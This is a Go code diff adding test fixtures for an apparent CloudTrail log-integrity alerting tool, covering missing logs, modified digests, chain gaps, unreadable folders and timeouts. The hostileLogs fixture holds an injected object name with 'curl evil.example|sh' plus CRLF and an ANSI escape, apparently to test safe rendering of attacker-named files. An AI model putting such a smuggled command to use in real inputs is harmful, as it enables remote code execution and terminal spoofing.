@@ -208,6 +208,46 @@ func historyRecord() incident.Incident {
 	return i
 }
 
+// brokenLogs is what a verification finds after somebody was in the bucket.
+func brokenLogs() incident.Incident {
+	i := incident.Incident{
+		ID: "event-1d0f6a3b2b4e5f60", Version: 1, Stage: incident.Observed, TrailARN: arn, Account: "111122223333", Region: "eu-central-1",
+		BaselineHash: restored().BaselineHash, Severity: severity.High, Seen: at(4.1), EventIDs: []string{"verification-1"},
+	}
+	const logs, digests = "s3://corp-trail-logs/AWSLogs/111122223333/CloudTrail/eu-central-1/2026/02/28/", "s3://corp-trail-logs/AWSLogs/111122223333/CloudTrail-Digest/eu-central-1/2026/02/28/"
+	i.AddVerification(true, "1 log missing, 1 digest modified, 1 gap in a digest chain")
+	i.AddNote("log-missing: " + logs + "111122223333_CloudTrail_eu-central-1_20260228T2215Z_kW3f0pQyTzX1abcd.json.gz: it is not there, and its digest lists it")
+	i.AddNote("digest-modified: " + digests + "111122223333_CloudTrail-Digest_eu-central-1_audit_eu-central-1_20260228T210110Z.json.gz: its signature is genuine, but of another content")
+	i.AddNote("chain-gap: " + digests + "111122223333_CloudTrail-Digest_eu-central-1_audit_eu-central-1_20260228T230110Z.json.gz: it begins an hour after the end of the digest that it names: no digest covers the time between")
+	i.AddNote("and 3 more")
+	return i
+}
+
+func unreadLogs() incident.Incident {
+	i := brokenLogs()
+	i.Severity, i.Notes = severity.Medium, nil
+	i.AddVerification(false, "1 folder unread")
+	i.AddNote("chain-unknown: s3://corp-trail-logs/AWSLogs/: it could not be listed, so what it holds is not known: ListObjectsV2: AccessDenied: Access Denied")
+	return i
+}
+
+func slowLogs() incident.Incident {
+	i := unreadLogs()
+	i.Notes = nil
+	i.AddVerification(false, "the verification came to no end")
+	i.AddNote("There was not enough time to read all digests and logs. Give the function a longer timeout (up to 15 minutes) and more memory, which brings more CPU, or let a daemon verify: trailhold watch --verify-every 24h")
+	return i
+}
+
+// hostileLogs are named by somebody who wants his text read, or pasted.
+func hostileLogs() incident.Incident {
+	i := brokenLogs()
+	i.Notes = nil
+	i.AddVerification(true, "1 log planted")
+	i.AddNote("log-unlisted: s3://corp-trail-logs/AWSLogs/111122223333/CloudTrail/x;curl evil.example|sh\r\n\x1b[2J: https://evil.example: .json.gz: no digest lists it")
+	return i
+}
+
 type sample struct {
 	name string
 	i    incident.Incident
@@ -233,6 +273,10 @@ func samples() []sample {
 		{"message", message(), incident.KindAlert},
 		{"messages", manyMessages(), incident.KindEscalate},
 		{"messagelambda", invocation(), incident.KindAlert},
+		{"logsbroken", brokenLogs(), incident.KindAlert},
+		{"logsunread", unreadLogs(), incident.KindAlert},
+		{"logsunfinished", slowLogs(), incident.KindAlert},
+		{"logshostile", hostileLogs(), incident.KindAlert},
 		{"messagehistory", historyRecord(), incident.KindAlert},
 	}
 }
